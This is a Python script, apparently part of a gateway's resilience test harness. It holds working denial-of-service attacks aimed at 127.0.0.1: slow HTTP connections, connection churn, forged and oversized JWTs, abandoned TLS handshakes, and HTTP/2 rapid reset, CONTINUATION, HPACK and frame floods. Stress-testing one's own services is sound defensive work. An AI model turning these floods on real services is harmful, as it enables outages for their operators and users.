"""The attacks, each in a process of its own: `attacks.py NAME OPTIONS` holds one for a while and says what it sent.

Everything goes to one gateway on the loopback, bounded in time, connections and bytes under way.
"""

import asyncio
import base64
import contextlib
import dataclasses
import itertools
import json
import os
import pathlib
import socket
import ssl
import struct
import subprocess
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "harness"))

import http2  # noqa: E402

ATTACKS = {}
STUCK_SECONDS_MAX = 2


@dataclasses.dataclass
class Target:
    """What is attacked, and for how long."""

    port: int
    tls_port: int
    token: str
    seconds: float

    def __post_init__(self):
        self.end = time.monotonic() + self.seconds

    def left(self):
        return max(0.0, self.end - time.monotonic())

    async def connect(self, port=None, **options):
        reader, writer = await asyncio.open_connection("127.0.0.1", port or self.port, **options)
        # Ends with a reset: a closing handshake for each would use up the loopback's ports before the gateway's patience.
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        return reader, writer


def attack(title):
    """Puts a function that makes an attack into the table."""
    def register(function):
        ATTACKS[title] = function
        return function
    return register


# How attacks are made.


async def hold(target, count, opening, port=None):
    """Connections that send `opening` and then nothing; how many, and how many of them the gateway kept to the end."""
    readers, writers, tasks, kept = [], [], [], 0
    while len(writers) < count and target.left():
        with contextlib.suppress(OSError):
            reader, writer = await target.connect(port, limit=4096)
            readers.append(reader)
            writers.append(writer)
            writer.write(opening)
    await asyncio.sleep(target.left())
    kept = sum(not reader.at_eof() and not writer.is_closing() for reader, writer in zip(readers, writers))
    return f"{len(writers):,} connections, {kept:,} still open at its end"


async def discard(reader):
    with contextlib.suppress(OSError):
        while await reader.read(65536):
            pass


async def flood(target, connections, opening, bursts, each, what, reads=True):
    """Connections that send bursts as fast as they are taken, and connect again when they are closed.

    `bursts` makes the bursts of one connection, each of `each` pieces of `what`. With `reads=False` no answer is read.
    """
    sent = connected = 0

    async def connection():
        nonlocal sent, connected
        reader, writer = await target.connect()
        connected += 1
        reading = asyncio.create_task(discard(reader)) if reads else None
        try:
            writer.write(opening)
            for burst in bursts():
                if not target.left() or (reads and reading.done()):
                    return
                writer.write(burst)
                await asyncio.wait_for(writer.drain(), STUCK_SECONDS_MAX if reads else target.left())
                sent += each
        finally:
            if reading:
                reading.cancel()
            writer.close()

    async def again_and_again():
        while target.left():
            with contextlib.suppress(OSError, asyncio.TimeoutError):
                await connection()
            await asyncio.sleep(0.001)

    await asyncio.gather(*(again_and_again() for _ in range(connections)))
    return f"{sent / target.seconds:,.0f} {what} written/s, {connected:,} connections"


def same(burst):
    return lambda: itertools.repeat(burst)


def slowhttptest(target, what, *options):
    subprocess.run(["slowhttptest", "-l", str(int(target.seconds)), "-p", "3", *options], stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, timeout=target.seconds + 30, check=False)
    return what


# HTTP/1.1 and connections.


@attack("slow heads (slowhttptest -H)")
async def slow_heads(target):
    url = f"http://127.0.0.1:{target.port}/steady/slow"
    return slowhttptest(target, "1,000 connections, 68 bytes each 3 s", "-H", "-c", "1000", "-r", "500", "-i", "3", "-u", url)


@attack("slow bodies (slowhttptest -B)")
async def slow_bodies(target):
    url = f"http://127.0.0.1:{target.port}/open/slow"
    return slowhttptest(target, "1,000 connections, 66 bytes each 3 s", "-B", "-c", "1000", "-r", "500", "-i", "3",
                        "-s", "1000000", "-u", url)


@attack("slow readers (slowhttptest -X)")
async def slow_readers(target):
    url = f"http://127.0.0.1:{target.port}/big/slow"
    return slowhttptest(target, "500 connections, 5 bytes a second of 16 MiB each", "-X", "-c", "500", "-r", "250",
                        "-w", "10", "-y", "20", "-n", "1", "-z", "5", "-u", url)


@attack("10,000 idle connections")
async def idle(target):
    return await hold(target, 10_000, b"")


@attack("connections opened and reset")
async def churn(target):
    count = 0

    async def worker():
        nonlocal count
        while target.left():
            with contextlib.suppress(OSError):
                _, writer = await target.connect()
                writer.close()
                count += 1

    await asyncio.gather(*(worker() for _ in range(16)))
    return f"{count / target.seconds:,.0f} connections/s"


def get(path, *fields):
    return "\r\n".join([f"GET {path} HTTP/1.1", "Host: 127.0.0.1", *fields, "", ""]).encode()


@attack("pipelining, answers never read")
async def pipelining(target):
    request = get("/steady/pipelined", f"Authorization: Bearer {target.token}")
    return await flood(target, 64, b"", same(request * 100), 100, "requests", reads=False)


@attack("heads of 1 MiB")
async def huge_heads(target):
    field = f"X-Field: {'x' * 1000}"
    return await flood(target, 16, b"", same(get("/steady/huge", *[field] * 1024)), 1, "heads")


@attack("deep and ambiguous paths")
async def paths(target):
    made = ["/a" * 8000, "/%2e%2e" * 2000, "/" * 16000, "/steady/" + "%25" * 4000, "/steady/" + "%c3%28" * 2000]
    burst = b"".join(get(path) for path in made)
    return await flood(target, 16, b"", same(burst), len(made), "requests")


# Tokens.


def encoded(value):
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def with_token(token):
    return get("/steady/token", f"Authorization: Bearer {token}")


@attack("tokens with 10,000 unknown key ids")
async def unknown_kids(target):
    claims, signature = target.token.split(".")[1], encoded(os.urandom(256))
    tokens = [f"{encoded({'alg': 'RS256', 'typ': 'at+jwt', 'kid': f'unknown-{number}'})}.{claims}.{signature}"
              for number in range(10_000)]
    bursts = [b"".join(map(with_token, tokens[first:first + 10])) for first in range(0, len(tokens), 10)]
    return await flood(target, 16, b"", lambda: itertools.cycle(bursts), 10, "tokens")


@attack("tokens with forged signatures")
async def forged(target):
    signed = target.token.rsplit(".", 1)[0]

    def bursts():
        while True:
            yield b"".join(with_token(f"{signed}.{encoded(os.urandom(256))}") for _ in range(10))

    return await flood(target, 16, b"", bursts, 10, "tokens")


@attack("tokens of 20 KiB")
async def oversized(target):
    return await flood(target, 16, b"", same(with_token("a" * 20_000)), 1, "tokens")


# TLS.


@attack("TLS handshakes begun and left")
async def half_handshakes(target):
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32)
    return await hold(target, 5_000, hello, target.tls_port)


@attack("TLS handshakes, one after the other")
async def handshakes(target):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    count = 0

    async def worker():
        nonlocal count
        while target.left():
            with contextlib.suppress(OSError):
                _, writer = await target.connect(target.tls_port, ssl=context)
                writer.transport.abort()
                count += 1

    await asyncio.gather(*(worker() for _ in range(16)))
    return f"{count / target.seconds:,.0f} handshakes/s"


# HTTP/2.

OPENING = http2.PREFACE + http2.settings()


def headers(stream, block, flags=http2.END_HEADERS | http2.END_STREAM):
    return http2.frame(http2.HEADERS, flags, stream, block)


def streams(first=1):
    return itertools.count(first, 2)


@attack("HTTP/2 rapid reset")
async def rapid_reset(target):
    block = http2.request("/steady/reset", target.token)

    def bursts():
        numbers = streams()
        while True:
            yield b"".join(headers(number, block) + http2.frame(http2.RST_STREAM, 0, number, http2.CANCEL)
                           for number in itertools.islice(numbers, 100))

    return await flood(target, 16, OPENING, bursts, 100, "streams")


@attack("HTTP/2 CONTINUATION without end")
async def continuation(target):
    opening = OPENING + headers(1, http2.request("/steady/c", target.token), http2.END_STREAM)
    block = b"".join(http2.literal(f"x-{number}", "x" * 100) for number in range(140))
    burst = http2.frame(http2.CONTINUATION, 0, 1, block)
    return await flood(target, 16, opening, same(burst), 1, "frames")


@attack("HTTP/2 header lists of 16 MB in 4 KiB (HPACK)")
async def header_lists(target):
    first = headers(1, http2.request("/steady/h", target.token, more=http2.literal("x-a", "a" * 4000, first=0x40)))
    block = http2.request("/steady/h", target.token, more=http2.indexed(62) * 4000)

    def bursts():
        return (headers(number, block) for number in streams(3))

    return await flood(target, 16, OPENING + first, bursts, 1, "requests")


@attack("HTTP/2 PING, answers never read")
async def ping(target):
    return await flood(target, 16, OPENING, same(http2.frame(http2.PING, payload=b"12345678") * 1000), 1000, "frames",
                       reads=False)


@attack("HTTP/2 SETTINGS, answers never read")
async def settings(target):
    return await flood(target, 16, OPENING, same(http2.settings(initial_window_size=65535) * 1000), 1000, "frames",
                       reads=False)


@attack("HTTP/2 WINDOW_UPDATE of one byte")
async def window_updates(target):
    return await flood(target, 16, OPENING, same(http2.frame(http2.WINDOW_UPDATE, payload=b"\0\0\0\1") * 1000), 1000, "frames")


@attack("HTTP/2 empty DATA frames")
async def empty_data(target):
    opening = OPENING + headers(1, http2.request("/open/d", target.token, "POST"), http2.END_HEADERS)
    return await flood(target, 16, opening, same(http2.frame(http2.DATA, 0, 1) * 1000), 1000, "frames")


@attack("HTTP/2 streams with a window of zero")
async def zero_window(target):
    block = http2.request("/big/zero", target.token)
    opening = http2.PREFACE + http2.settings(initial_window_size=0)
    opening += b"".join(headers(number, block) for number in itertools.islice(streams(), 100))
    return f"100 streams on each of {await hold(target, 20, opening)}"


def main():
    title, options = sys.argv[1], json.loads(sys.argv[2])
    os.nice(10)  # The good requests are measured beside it, on the same core.
    print(json.dumps(asyncio.run(ATTACKS[title](Target(**options)))))


if __name__ == "__main__":
    main()
